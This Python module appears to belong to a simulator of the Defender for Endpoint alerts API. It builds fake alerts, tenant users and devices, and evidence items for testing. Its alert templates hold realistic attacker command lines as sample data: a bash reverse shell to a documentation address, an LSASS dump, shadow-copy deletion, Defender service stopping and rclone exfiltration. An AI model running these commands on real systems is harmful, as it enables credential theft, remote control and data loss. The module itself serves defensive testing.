"""What alerts are about: attacks with the evidence they leave, and the tenant's people and devices.

All names are made up; the values of enumerations are those of the Defender for Endpoint alerts API.
"""

from __future__ import annotations

import uuid
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from airflow_provider_defender.simulator.defender.versions import grid_ticks, wire_time
from airflow_provider_defender.simulator.server.draw import Draw, draw_for

__all__ = ["EVIDENCE_PROPERTIES", "TEMPLATES", "Device", "Population", "Template", "evidence_item"]

_SECOND = 10_000_000
#: Every property of an evidence item, in the order of the wire.
EVIDENCE_PROPERTIES = (
    "entityType",
    "evidenceCreationTime",
    "sha1",
    "sha256",
    "fileName",
    "filePath",
    "processId",
    "processCommandLine",
    "processCreationTime",
    "parentProcessId",
    "parentProcessCreationTime",
    "parentProcessFileName",
    "parentProcessFilePath",
    "ipAddress",
    "url",
    "registryKey",
    "registryHive",
    "registryValueType",
    "registryValue",
    "registryValueName",
    "accountName",
    "domainName",
    "userSid",
    "aadUserId",
    "userPrincipalName",
    "detectionStatus",
)
_NO_EVIDENCE: dict[str, Any] = dict.fromkeys(EVIDENCE_PROPERTIES)


@dataclass(frozen=True)
class Template:
    """What an alert is made from: its title, how bad it is, and which entities it names."""

    title: str
    description: str
    category: str
    severity: str
    source: str
    techniques: tuple[str, ...]
    evidence: tuple[str, ...]
    threat: tuple[str, str] | None = None
    """Threat family and threat name, of malware."""
    files: tuple[str, ...] = ("payload.exe",)
    commands: tuple[str, ...] = ("{file}",)


@dataclass(frozen=True)
class Person:
    """Somebody who works in the tenant."""

    account: str
    domain: str
    principal: str
    sid: str
    aad_id: str


@dataclass(frozen=True)
class Device:
    """A device with its usual user."""

    machine_id: str
    name: str
    group: str
    person: Person
    linux: bool = False


TEMPLATES: tuple[Template, ...] = (
    Template(
        "Suspicious PowerShell command line",
        "A suspicious PowerShell activity was observed on the machine. This behavior may indicate that "
        "PowerShell was used during installation, exploration, or in some cases in lateral movement "
        "activities which are used by attackers to invoke modules, download external payloads, or get more "
        "information about the system.",
        "Execution",
        "Medium",
        "WindowsDefenderAtp",
        ("T1059.001", "T1105"),
        ("User", "Process", "File"),
        files=("powershell.exe", "pwsh.exe"),
        commands=(
            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
            "powershell.exe -ExecutionPolicy Bypass -File C:\\Users\\Public\\run.ps1",
        ),
    ),
    Template(
        "Suspicious 'Meterpreter' behavior was detected",
        "Malware and unwanted software are undesirable applications that perform annoying, disruptive, or "
        "harmful actions on affected machines.",
        "SuspiciousActivity",
        "Low",
        "WindowsDefenderAv",
        ("T1064", "T1085", "T1220"),
        ("Process", "File"),
        ("Meterpreter", "Behavior:Win32/Meterpreter.A!sms"),
        ("rundll32.exe",),
        ("rundll32.exe c:\\temp\\suspicious.dll,RepeatAfterMe",),
    ),
    Template(
        "'Emotet' malware was prevented",
        "Malware and unwanted software are undesirable applications that perform annoying, disruptive, or "
        "harmful actions on affected machines. This detection was blocked before it ran.",
        "Malware",
        "Informational",
        "WindowsDefenderAv",
        (),
        ("File",),
        ("Emotet", "Trojan:Win32/Emotet!ml"),
        ("invoice_4471.doc", "scan-2291.docm"),
    ),
    Template(
        "Ransomware behavior detected in the file system",
        "Files were renamed and overwritten in bulk in a way that is typical of ransomware.",
        "Ransomware",
        "High",
        "WindowsDefenderAtp",
        ("T1486", "T1490"),
        ("Process", "File", "File", "User"),
        ("LockBit", "Ransom:Win32/Lockbit.AD"),
        ("lb3.exe", "vssadmin.exe"),
        ("vssadmin.exe delete shadows /all /quiet", "C:\\Users\\Public\\lb3.exe -pass 9a1f"),
    ),
    Template(
        "Connection to a custom network indicator",
        "An endpoint has connected to a URL or domain in your list of custom indicators.",
        "CommandAndControl",
        "Medium",
        "CustomerTI",
        ("T1071.001",),
        ("Url", "Process"),
        files=("chrome.exe", "curl.exe"),
        commands=("{file} https://cdn.update-check.example/b",),
    ),
    Template(
        "Suspicious connection to a command and control server",
        "A process connected to an address that is known for command and control of implants.",
        "CommandAndControl",
        "High",
        "WindowsDefenderAtp",
        ("T1095", "T1571"),
        ("Ip", "Process", "User"),
        files=("svchost.exe", "msbuild.exe"),
    ),
    Template(
        "Anomalous registry modification for persistence",
        "A value was written to an autostart location by a process that does not usually do so.",
        "Persistence",
        "Medium",
        "WindowsDefenderAtp",
        ("T1547.001", "T1112"),
        ("Registry", "Process", "User"),
        files=("reg.exe",),
        commands=("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d {path}",),
    ),
    Template(
        "Suspicious access to LSASS service",
        "A process read the memory of the Local Security Authority Subsystem Service.",
        "CredentialAccess",
        "High",
        "WindowsDefenderAtp",
        ("T1003.001",),
        ("Process", "User", "File"),
        files=("procdump64.exe", "rundll32.exe"),
        commands=("procdump64.exe -accepteula -ma lsass.exe lsass.dmp",),
    ),
    Template(
        "Possible lateral movement using remote services",
        "A service was created from another device with an account that had not done so before.",
        "LateralMovement",
        "Medium",
        "WindowsDefenderAtp",
        ("T1021.002", "T1569.002"),
        ("User", "Ip", "Process"),
        files=("psexesvc.exe", "wmic.exe"),
        commands=("wmic /node:{host} process call create cmd.exe",),
    ),
    Template(
        "Suspicious sequence of exploration activities",
        "A process called a set of commands that attackers use to learn about a network.",
        "Discovery",
        "Low",
        "WindowsDefenderAtp",
        ("T1016", "T1018", "T1087.002", "T1482"),
        ("Process", "Process", "User"),
        files=("net.exe", "nltest.exe", "whoami.exe"),
        commands=('net group "Domain Admins" /domain', "nltest /domain_trusts", "whoami /all"),
    ),
    Template(
        "Security software tampering attempt",
        "Something tried to stop or change the protection of this device.",
        "DefenseEvasion",
        "Medium",
        "WindowsDefenderAtp",
        ("T1562.001", "T1564.001"),
        ("Registry", "Process"),
        files=("cmd.exe",),
        commands=("cmd /c sc stop WinDefend",),
    ),
    Template(
        "Possible data exfiltration over a web service",
        "An unusual volume of data left the device for a file sharing service.",
        "Exfiltration",
        "High",
        "CustomDetection",
        ("T1567.002",),
        ("Url", "File", "User"),
        files=("rclone.exe",),
        commands=("rclone copy D:\\shares remote:drop --transfers 16",),
    ),
    Template(
        "Phishing document opened from an e-mail",
        "A document from an e-mail that was later classified as phishing was opened.",
        "InitialAccess",
        "Medium",
        "OfficeATP",
        ("T1566.001", "T1204.002"),
        ("File", "Url", "User"),
        files=("Quarterly results.docm",),
    ),
    Template(
        "Attempt to exploit a vulnerable driver",
        "A driver that is known to be vulnerable was loaded shortly before rights were raised.",
        "PrivilegeEscalation",
        "High",
        "WindowsDefenderAtp",
        ("T1068",),
        ("File", "Process"),
        files=("rtcore64.sys",),
    ),
    Template(
        "Exploit behavior blocked in an office application",
        "Exploit protection stopped a child process of an office application.",
        "Exploit",
        "Low",
        "WindowsDefenderSmartScreen",
        ("T1203",),
        ("Process", "File"),
        files=("winword.exe",),
        commands=('winword.exe /n "{path}"',),
    ),
    Template(
        "'PUA:Win32/Presenoker' unwanted software was detected",
        "Unwanted software can slow a device down, show advertisements, or install other software.",
        "UnwantedSoftware",
        "Informational",
        "WindowsDefenderAv",
        (),
        ("File",),
        ("Presenoker", "PUA:Win32/Presenoker"),
        ("setup_free.exe",),
    ),
    Template(
        "Reverse shell on a Linux server",
        "A shell was connected to a network socket, which lets somebody type commands from afar.",
        "Backdoor",
        "High",
        "WindowsDefenderAtp",
        ("T1059.004", "T1071"),
        ("Process", "Ip", "User"),
        files=("bash", "nc"),
        commands=("bash -i >& /dev/tcp/203.0.113.77/4444 0>&1",),
    ),
    Template(
        "Screen capture by an unusual process",
        "A process that has no window took pictures of the screen again and again.",
        "Collection",
        "Low",
        "ThirdPartySensors",
        ("T1113",),
        ("Process", "User"),
        files=("snap.exe",),
    ),
    Template(
        "Automated investigation started manually",
        "An administrator has started an automated investigation on this device.",
        "SuspiciousActivity",
        "Informational",
        "AutomatedInvestigation",
        (),
        (),
    ),
    Template(
        "Multi-stage incident involving initial access and lateral movement",
        "Several alerts of different products belong to one attack.",
        "None",
        "UnSpecified",
        "MTP",
        (),
        ("User", "Ip"),
    ),
)

_FIRST = (
    "ana",
    "björn",
    "chloe",
    "dmitri",
    "emre",
    "fatima",
    "grace",
    "hiro",
    "ines",
    "jonas",
    "kofi",
    "lena",
)
_LAST = ("silva", "larsen", "martin", "ivanov", "yilmaz", "haddad", "okafor", "tanaka", "costa", "weber")
_GROUPS = ("Workstations", "Servers", "MiddleEast", "Finance", "A")


class Population:
    """The people and devices of a tenant, drawn once from its seed."""

    def __init__(self, seed: int | str, domain: str, devices: int = 40) -> None:
        draw = draw_for(seed, "population")
        company = domain.partition(".")[0]
        prefix = f"S-1-5-21-{draw.randrange(10**9)}-{draw.randrange(10**9)}-{draw.randrange(10**9)}"
        self.people = [
            Person(
                account := f"{draw.choice(_FIRST)}.{draw.choice(_LAST)}{number}",
                company.upper()[:15],
                f"{account}@{domain}",
                f"{prefix}-{1100 + number}",
                str(uuid.UUID(int=draw.getrandbits(128), version=4)),
            )
            for number in range(devices)
        ]
        self.devices = [self._device(draw, domain, number, self.people[number]) for number in range(devices)]
        self.analysts = [f"secop{number}@{domain}" for number in (1, 2, 3)]
        machine = draw_for(seed, "server").getrandbits(160)
        self.server = Device(f"{machine:040x}", f"srv-files-01.{domain}", "Servers", self.people[0])
        """A file server, of which only an attack tells (`simulator.attack`)."""

    def device(self, machine_id: object) -> Device | None:
        """The device with this id, if it is one of the tenant's."""
        known = (*self.devices, self.server)
        return next((device for device in known if device.machine_id == machine_id), None)

    @staticmethod
    def _device(draw: Draw, domain: str, number: int, person: Person) -> Device:
        linux = number % 8 == 7
        name = f"{'srv-app' if linux else 'desktop'}-{number:03d}.{domain}"
        return Device(f"{draw.getrandbits(160):040x}", name, draw.choice(_GROUPS), person, linux)


def evidence_item(draw: Draw, entity: str, template: Template, device: Device, at: int) -> dict[str, Any]:
    """One evidence item about something that happened shortly before `at` (ticks); all properties present."""
    item = _NO_EVIDENCE.copy()
    item["entityType"] = entity
    item["evidenceCreationTime"] = wire_time(grid_ticks(at))
    _FILLERS.get(entity, _fill_file)(item, draw, template, device, at)
    if entity in ("File", "Process"):
        item["detectionStatus"] = draw.choice(("Detected", "Blocked", "Prevented"))
    return item


def _fill_file(item: dict[str, Any], draw: Draw, template: Template, device: Device, at: int) -> None:
    item["sha1"] = f"{draw.getrandbits(160):040x}"
    item["sha256"] = f"{draw.getrandbits(256):064x}"
    item["fileName"] = draw.choice(template.files)
    item["filePath"] = _folder(draw, device)


def _fill_process(item: dict[str, Any], draw: Draw, template: Template, device: Device, at: int) -> None:
    _fill_file(item, draw, template, device, at)
    started = at - draw.randrange(_SECOND, 300 * _SECOND)
    path = f"{item['filePath']}{'/' if device.linux else chr(92)}{item['fileName']}"
    command = draw.choice(template.commands)
    item["processId"] = draw.randrange(100, 32_000)
    item["processCommandLine"] = command.format(file=item["fileName"], path=path, host=device.name)
    item["processCreationTime"] = wire_time(started)
    item["parentProcessId"] = draw.randrange(100, 32_000)
    item["parentProcessCreationTime"] = wire_time(started - draw.randrange(3600 * _SECOND))
    item["parentProcessFileName"] = "systemd" if device.linux else draw.choice(("explorer.exe", "cmd.exe"))
    item["parentProcessFilePath"] = "/usr/lib/systemd" if device.linux else "C:\\Windows\\System32"
    if draw.random() < 0.5:
        item["accountName"] = device.person.account
        item["domainName"] = device.person.domain
        item["userSid"] = device.person.sid


def _fill_ip(item: dict[str, Any], draw: Draw, template: Template, device: Device, at: int) -> None:
    chance = draw.random()
    if chance < 0.75:  # documentation ranges, so that nobody's address stands here
        item["ipAddress"] = f"203.0.113.{draw.randrange(1, 255)}"
    elif chance < 0.95:
        item["ipAddress"] = f"2001:db8::{draw.randrange(1, 0xFFFF):x}"


def _fill_url(item: dict[str, Any], draw: Draw, template: Template, device: Device, at: int) -> None:
    host = draw.choice(("cdn.update-check.example", "files.share-now.example", "login.support.example"))
    item["url"] = f"https://{host}/{draw.getrandbits(32):08x}?q=1&ü={draw.randrange(100)}"


def _fill_registry(item: dict[str, Any], draw: Draw, template: Template, device: Device, at: int) -> None:
    item["registryHive"] = draw.choice(("HKEY_CURRENT_USER", "HKEY_LOCAL_MACHINE"))
    item["registryKey"] = "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"
    item["registryValueType"] = draw.choice(("Unknown", "String", "DWord", "ExpandString"))
    item["registryValue"] = f"C:\\Users\\Public\\{draw.choice(template.files)}"
    item["registryValueName"] = "Updater"


def _fill_user(item: dict[str, Any], draw: Draw, template: Template, device: Device, at: int) -> None:
    item["accountName"] = device.person.account
    item["domainName"] = device.person.domain
    item["userSid"] = device.person.sid
    item["aadUserId"] = device.person.aad_id
    item["userPrincipalName"] = device.person.principal


def _folder(draw: Draw, device: Device) -> str:
    if device.linux:
        return draw.choice(("/usr/bin", "/tmp", "/dev/shm"))  # noqa: S108 - where attackers put files
    return draw.choice(("C:\\Windows\\System32", "C:\\Users\\Public", "c:\\temp", "C:\\ProgramData"))


_FILLERS: dict[str, Callable[[dict[str, Any], Draw, Template, Device, int], None]] = {
    "File": _fill_file,
    "Process": _fill_process,
    "Ip": _fill_ip,
    "Url": _fill_url,
    "Registry": _fill_registry,
    "User": _fill_user,
}
